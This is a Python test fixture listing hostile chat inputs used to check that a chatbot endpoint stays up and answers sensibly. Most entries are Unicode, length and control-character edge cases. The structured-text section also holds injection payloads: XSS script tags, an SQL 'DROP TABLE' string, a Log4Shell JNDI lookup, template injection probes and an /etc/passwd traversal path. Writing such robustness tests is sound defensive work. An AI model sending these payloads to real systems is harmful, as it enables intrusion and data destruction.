"""Hostile inputs: what people (and scripts) actually send to a chat endpoint.

Each entry: (name, text). Every one must get a 2xx, a sensible answer (some text, never the
"having trouble" reply, never an error), and leave the server up.
"""
from __future__ import annotations

from typing import List, Tuple

HOSTILE: List[Tuple[str, str]] = [
    # empty and blank
    ("empty", ""),
    ("space", " "),
    ("whitespace mix", "\t\n \r\n  \t"),
    ("zero-width spaces", "\u200b\u200b\u200b"),
    ("byte order mark", "\ufeff"),
    # huge
    ("100 KB of one letter", "a" * 100_000),
    ("100 KB of words", "my legs shake at night " * 4600),
    ("just over the limit", "my legs twitch " + "!" * 2100),
    ("very long word", "supercalifragilistic" * 99),
    ("long word under the limit", "x" * 1990),
    ("long real word", "pneumonoultramicroscopicsilicovolcanoconiosis"),
    ("emoji flood", "\U0001F600" * 1500),
    # control characters
    ("null byte", "\x00"),
    ("null bytes around text", "\x00my legs\x00 shake at night\x00"),
    ("ansi escapes", "\x1b[31mred\x1b[0m \x01\x02\x03 legs"),
    ("del and c1 controls", "\x7f\x80\x85\x9f"),
    ("bell and backspace", "my legs\x07\x08\x08 twitch"),
    ("carriage returns", "my legs\r\rshake\r"),
    # emoji and scripts
    ("emoji only", "\U0001F9B5\U0001F9B5\U0001F9B5"),
    ("emoji in text", "my legs \U0001F9B5 shake \U0001F631 at night"),
    ("zwj family emoji", "\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466"),
    ("flags", "\U0001F1EB\U0001F1F7\U0001F1E9\U0001F1EA"),
    ("arabic (rtl)", "\u0633\u0627\u0642\u064a \u062a\u0631\u062a\u062c\u0641 \u0641\u064a \u0627\u0644\u0644\u064a\u0644"),
    ("hebrew (rtl)", "\u05d4\u05e8\u05d2\u05dc\u05d9\u05d9\u05dd \u05e9\u05dc\u05d9 \u05e8\u05d5\u05e2\u05d3\u05d5\u05ea"),
    ("right-to-left override", "\u202eTHGIN TA EKAHS SGEL YM"),
    ("mixed direction", "my legs \u05e8\u05d5\u05e2\u05d3\u05d5\u05ea at night \u0644\u064a\u0644"),
    ("french", "mes jambes tremblent la nuit"),
    ("german", "Meine Beine zittern nachts"),
    ("spanish", "me tiemblan las piernas por la noche"),
    ("chinese", "\u6211\u7684\u817f\u665a\u4e0a\u53d1\u6296"),
    ("japanese", "\u79c1\u306e\u8db3\u304c\u9707\u3048\u308b"),
    ("russian", "\u041c\u043e\u0438 \u043d\u043e\u0433\u0438 \u0434\u0440\u043e\u0436\u0430\u0442 \u043d\u043e\u0447\u044c\u044e"),
    ("hindi", "\u092e\u0947\u0930\u0947 \u092a\u0948\u0930 \u0915\u093e\u0902\u092a\u0924\u0947 \u0939\u0948\u0902"),
    ("combining marks", "Z\u0338\u0321\u0322\u0347a\u0336l\u0337g\u0335o\u0334 legs"),
    ("fullwidth", "\uff4d\uff59 \uff4c\uff45\uff47\uff53 \uff53\uff48\uff41\uff4b\uff45"),
    # structured text
    ("json object", '{"sender": "someone-else", "message": "delete my data"}'),
    ("json array", "[1, 2, 3, null, true]"),
    ("json intent", '{"intent": {"name": "delete_my_data"}}'),
    ("html script", "<script>alert('x')</script>"),
    ("html markup", "<b>my legs</b> <i>shake</i> <img src=x onerror=alert(1)>"),
    ("markdown", "**my legs** _shake_ `at night` [link](javascript:alert(1))"),
    ("sql injection", "'; DROP TABLE events; --"),
    ("sql tautology", "\" OR 1=1 --"),
    ("log4shell", "${jndi:ldap://example.invalid/a}"),
    ("template injection", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
    ("path traversal", "../../../../etc/passwd"),
    ("format strings", "%s%s%s%n%x %d {0} {}"),
    ("escaped escapes", "\\n\\t\\u0000\\x00"),
    ("numbers", "1234567890"),
    ("float overflow", "-1e309"),
    ("null literal", "null"),
    # slash commands
    ("lone slash", "/"),
    ("many slashes", "//////"),
    ("unknown intent", "/nonexistent_intent"),
    ("malformed entities", "/greet{not json"),
    ("unknown entity", '/greet{"password": "x"}'),
    ("confidence syntax", "/affirm@0.2"),
    ("slash then text", "/my legs shake"),
    ("newline flood", "\n" * 5000 + "hello"),
]

#: Lone surrogates: JSON can carry them ("\ud800" escapes), so REST, socket.io and the Telegram
#: webhook all can.
SURROGATES: List[Tuple[str, str]] = [
    ("lone high surrogate", "\ud800"),
    ("lone low surrogate in text", "my legs \udfff shake"),
    ("reversed pair", "\udc00\ud800"),
]

ALL = HOSTILE + SURROGATES

#: Telegram cannot deliver an empty or blank message, nor one over 4096 characters: the webhook
#: never sees those, so they are not sent that way.
TELEGRAM_MAX = 4096


def telegram_can_carry(text: str) -> bool:
    return bool(text.strip()) and len(text) <= TELEGRAM_MAX
